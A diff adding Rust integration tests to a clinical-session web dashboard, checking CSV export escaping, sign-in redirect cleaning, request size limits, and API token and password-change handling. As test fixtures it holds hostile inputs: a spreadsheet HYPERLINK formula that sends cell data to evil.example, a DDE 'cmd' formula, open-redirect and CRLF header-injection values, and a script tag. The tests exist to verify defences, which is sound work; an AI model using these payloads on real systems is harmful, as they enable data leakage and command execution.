@@ -935,3 +935,353 @@ async fn room_activity_counts_today_and_running_in_scope() {
         1
     );
 }
+
+#[tokio::test]
+async fn csv_exports_neutralise_formulas_from_people_and_peers() {
+    let s = Server::start().await;
+    // A session whose patient id, drug and route, and a side effect typed at the bedside,
+    // hold what a spreadsheet would run.
+    let mut doc = session(
+        "s-hostile",
+        "austin",
+        "1",
+        " =HYPERLINK(\"http://evil.example/?\"&A1)",
+        T0 + 60_000_000,
+    );
+    doc.update_meta(|m| {
+        m.protocol.drug = "\n=cmd|' /C calc'!A0".into();
+        m.protocol.route = "@SUM(A1:A9)".into();
+        m.observations[0].effect = "-2+3".into();
+        m.observations[0].severity = "+mild".into();
+    })
+    .unwrap();
+    s.store
+        .commit_document("s-hostile", DocKind::Session, "austin", doc.automerge(), T0)
+        .unwrap();
+    let admin = s.login("admin").await;
+    let res = s.get("/sessions.csv", Some(&admin)).await;
+    assert_eq!(res.status(), StatusCode::OK);
+    assert_eq!(res.headers()["cache-control"], "no-store");
+    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
+    let csv = res.text().await.unwrap();
+    assert!(
+        csv.contains(",\"' =HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",completed,"),
+        "{csv}"
+    );
+    assert!(
+        csv.contains(",\"'\n=cmd|' /C calc'!A0\",'@SUM(A1:A9),0.5,"),
+        "{csv}"
+    );
+    let (status, csv) = s
+        .page(
+            "/reports/advisories.csv?from=2026-11-01&to=2026-12-31",
+            &admin,
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(
+        csv.lines()
+            .any(|l| l == "austin,3,side_effect,'-2+3,'+mild,1,33.3"),
+        "{csv}"
+    );
+    // No line of any export starts a cell with a formula character.
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            assert!(!cell.trim_start().starts_with(['=', '+', '@']), "{line}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn next_after_sign_in_stays_on_this_site() {
+    let s = Server::start().await;
+    // (next as sent, where the browser goes)
+    let cases = [
+        ("/sessions?site=austin", "/sessions?site=austin"),
+        ("//evil.example/", "/"),
+        ("/\\evil.example/", "/"),
+        ("/\t/evil.example/", "/"),
+        ("/\n/x", "/"),
+        ("/\r\nSet-Cookie: x=y", "/"),
+        ("https://evil.example/", "/"),
+        ("/caf\u{e9}", "/"),
+    ];
+    for (next, expected) in cases {
+        let (cookie, csrf) = s.login_form().await;
+        let res = s
+            .post(
+                "/login",
+                Some(&cookie),
+                &[
+                    ("username", "admin"),
+                    ("password", PASSWORD),
+                    ("csrf", &csrf),
+                    ("next", next),
+                ],
+            )
+            .await;
+        assert_eq!(res.status(), StatusCode::SEE_OTHER, "{next:?}");
+        assert_eq!(res.headers()[LOCATION], expected, "{next:?}");
+        // The sign-in page carries the same cleaned value in its form.
+        let res = s
+            .get(
+                &format!("/login?next={}", vigil_shared::ui::url_encode(next)),
+                None,
+            )
+            .await;
+        assert_eq!(res.status(), StatusCode::OK, "{next:?}");
+        let html = res.text().await.unwrap();
+        assert_eq!(
+            hidden(&html, "next"),
+            vigil_shared::ui::escape(expected),
+            "{next:?}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn the_api_body_limit_does_not_apply_to_the_dashboards_forms() {
+    let s = Server::start().await;
+    // A sign-in form with a long (but legal) password: read, checked, refused as wrong.
+    let long = "x".repeat(3000);
+    let res = s.try_login("admin", &long).await;
+    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
+    // An upload to a form is refused before anything reads it.
+    let (cookie, _) = s.login_form().await;
+    let res = s
+        .client
+        .post(format!("{}/login", s.base))
+        .header(COOKIE, cookie)
+        .header("content-type", "application/x-www-form-urlencoded")
+        .body(vec![b'a'; 64 * 1024])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
+    // The API keeps its own small limit.
+    let res = s
+        .client
+        .post(format!("{}/api/v1/sessions", s.base))
+        .bearer_auth(SERVICE_TOKEN)
+        .body(vec![b'x'; 2048])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
+}
+
+/// The account page's forms: its CSRF token and the ids of the listed tokens.
+async fn account(s: &Server, session: &str) -> (String, Vec<String>) {
+    let (status, html) = s.page("/account", session).await;
+    assert_eq!(status, StatusCode::OK);
+    let ids = html
+        .split("name=\"id\" value=\"")
+        .skip(1)
+        .map(|rest| rest.split('"').next().unwrap().to_owned())
+        .collect();
+    (hidden(&html, "csrf"), ids)
+}
+
+/// Makes a token on the account page; returns the status and, when made, the token.
+async fn mint(
+    s: &Server,
+    session: &str,
+    password: &str,
+    days: &str,
+) -> (StatusCode, Option<String>) {
+    let (csrf, _) = account(s, session).await;
+    let res = s
+        .post(
+            "/account/tokens",
+            Some(session),
+            &[
+                ("csrf", &csrf),
+                ("label", "reports <script>"),
+                ("days", days),
+                ("password", password),
+            ],
+        )
+        .await;
+    let status = res.status();
+    let html = res.text().await.unwrap();
+    let token = html
+        .split("id=\"new-token\">")
+        .nth(1)
+        .map(|rest| rest.split('<').next().unwrap().to_owned());
+    (status, token)
+}
+
+#[tokio::test]
+async fn api_tokens_need_the_password_expire_and_can_be_revoked() {
+    let s = Server::start().await;
+    let session = s.login("rm-central").await;
+    // Without the right password no token is made.
+    let (status, token) = mint(&s, &session, "not my password", "30").await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    assert!(token.is_none());
+    let (status, _) = mint(&s, &session, PASSWORD, "0").await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+    let (status, _) = mint(&s, &session, PASSWORD, "forever").await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+    let user = s.store.user_by_name("rm-central").unwrap().unwrap();
+    assert!(s.store.api_tokens(user.id).unwrap().is_empty());
+
+    // With it, a token that works, listed with its label (escaped), expiry and last use.
+    let (status, token) = mint(&s, &session, PASSWORD, "30").await;
+    assert_eq!(status, StatusCode::OK);
+    let token = token.expect("a new token");
+    assert_eq!(s.api("/api/v1/sessions", &token).await.0, StatusCode::OK);
+    let listed = s.store.api_tokens(user.id).unwrap();
+    assert_eq!(listed.len(), 1);
+    assert_eq!(listed[0].label, "reports <script>");
+    assert_eq!(
+        listed[0].expires_us - listed[0].created_us,
+        30 * 86_400_000_000
+    );
+    assert!(listed[0].last_used_us.is_some(), "the use was recorded");
+    let (_, html) = s.page("/account", &session).await;
+    assert!(html.contains("reports &lt;script&gt;") && !html.contains("reports <script>"));
+    assert!(!html.contains("never"), "{html}");
+
+    // An expired token is refused like an unknown one.
+    let now = vigil_cloud::api::now_us();
+    let old =
+        auth::issue_api_token(&s.store, "rm-central", "old", 1, now - 2 * 86_400_000_000).unwrap();
+    let (status, body) = s.api("/api/v1/sessions", &old).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+    assert!(
+        body["error"].as_str().unwrap().contains("expired"),
+        "{body}"
+    );
+    let (_, html) = s.page("/account", &session).await;
+    assert!(html.contains("(expired)"));
+
+    // Revoked on the account page (the form needs its CSRF token), then refused.
+    let (csrf, ids) = account(&s, &session).await;
+    assert_eq!(ids.len(), 2);
+    let newest = &ids[0];
+    let res = s
+        .post(
+            "/account/tokens/revoke",
+            Some(&session),
+            &[("csrf", "0000"), ("id", newest)],
+        )
+        .await;
+    assert_eq!(res.status(), StatusCode::FORBIDDEN);
+    assert_eq!(
+        s.api("/api/v1/sessions", &old).await.0,
+        StatusCode::UNAUTHORIZED
+    );
+    let still = s.store.api_tokens(user.id).unwrap();
+    let keep = still
+        .iter()
+        .find(|t| t.label == "reports <script>")
+        .unwrap()
+        .id
+        .to_string();
+    let res = s
+        .post(
+            "/account/tokens/revoke",
+            Some(&session),
+            &[("csrf", &csrf), ("id", &keep)],
+        )
+        .await;
+    assert_eq!(res.status(), StatusCode::SEE_OTHER);
+    assert_eq!(res.headers()[LOCATION], "/account");
+    assert_eq!(
+        s.api("/api/v1/sessions", &token).await.0,
+        StatusCode::UNAUTHORIZED
+    );
+    // Another user's token cannot be revoked from this account.
+    let other = s.store.user_by_name("admin").unwrap().unwrap();
+    let theirs = auth::issue_api_token(&s.store, "admin", "x", 30, now).unwrap();
+    let their_id = s.store.api_tokens(other.id).unwrap()[0].id.to_string();
+    let res = s
+        .post(
+            "/account/tokens/revoke",
+            Some(&session),
+            &[("csrf", &csrf), ("id", &their_id)],
+        )
+        .await;
+    assert_eq!(res.status(), StatusCode::NOT_FOUND);
+    assert_eq!(s.api("/api/v1/sessions", &theirs).await.0, StatusCode::OK);
+}
+
+#[tokio::test]
+async fn a_password_change_revokes_tokens_and_ends_sessions() {
+    let s = Server::start().await;
+    let session = s.login("rm-central").await;
+    let elsewhere = s.login("rm-central").await;
+    let (_, token) = mint(&s, &session, PASSWORD, "90").await;
+    let token = token.unwrap();
+    assert_eq!(s.api("/api/v1/sessions", &token).await.0, StatusCode::OK);
+    let (csrf, _) = account(&s, &session).await;
+    let new_password = "a brand new password";
+    let change = |current: &'static str, new: &'static str, repeat: &'static str| {
+        let (s, session, csrf) = (&s, session.clone(), csrf.clone());
+        async move {
+            s.post(
+                "/account/password",
+                Some(&session),
+                &[
+                    ("csrf", &csrf),
+                    ("current", current),
+                    ("new", new),
+                    ("repeat", repeat),
+                ],
+            )
+            .await
+            .status()
+        }
+    };
+    // Refused without the current password, with a mismatch or a too short one.
+    assert_eq!(
+        change("wrong password!", new_password, new_password).await,
+        StatusCode::FORBIDDEN
+    );
+    assert_eq!(
+        change(PASSWORD, new_password, "something else").await,
+        StatusCode::BAD_REQUEST
+    );
+    assert_eq!(
+        change(PASSWORD, "short", "short").await,
+        StatusCode::BAD_REQUEST
+    );
+    assert_eq!(s.api("/api/v1/sessions", &token).await.0, StatusCode::OK);
+    // Changed: every session and token of the user ends.
+    assert_eq!(
+        change(PASSWORD, new_password, new_password).await,
+        StatusCode::SEE_OTHER
+    );
+    assert_eq!(
+        s.api("/api/v1/sessions", &token).await.0,
+        StatusCode::UNAUTHORIZED
+    );
+    for cookie in [&session, &elsewhere] {
+        assert_eq!(
+            s.get("/", Some(cookie)).await.status(),
+            StatusCode::SEE_OTHER
+        );
+    }
+    assert_eq!(
+        s.try_login("rm-central", PASSWORD).await.status(),
+        StatusCode::UNAUTHORIZED
+    );
+    assert_eq!(
+        s.try_login("rm-central", new_password).await.status(),
+        StatusCode::SEE_OTHER
+    );
+    // The CLI's password reset (an admin's) revokes tokens as well.
+    let user = s.store.user_by_name("nurse-austin").unwrap().unwrap();
+    let nurse = auth::issue_api_token(&s.store, "nurse-austin", "t", 30, T0).unwrap();
+    assert!(
+        s.store
+            .set_password("nurse-austin", &auth::hash_password(new_password).unwrap())
+            .unwrap()
+    );
+    assert!(s.store.api_tokens(user.id).unwrap().is_empty());
+    assert_eq!(
+        s.api("/api/v1/sessions", &nurse).await.0,
+        StatusCode::UNAUTHORIZED
+    );
+}
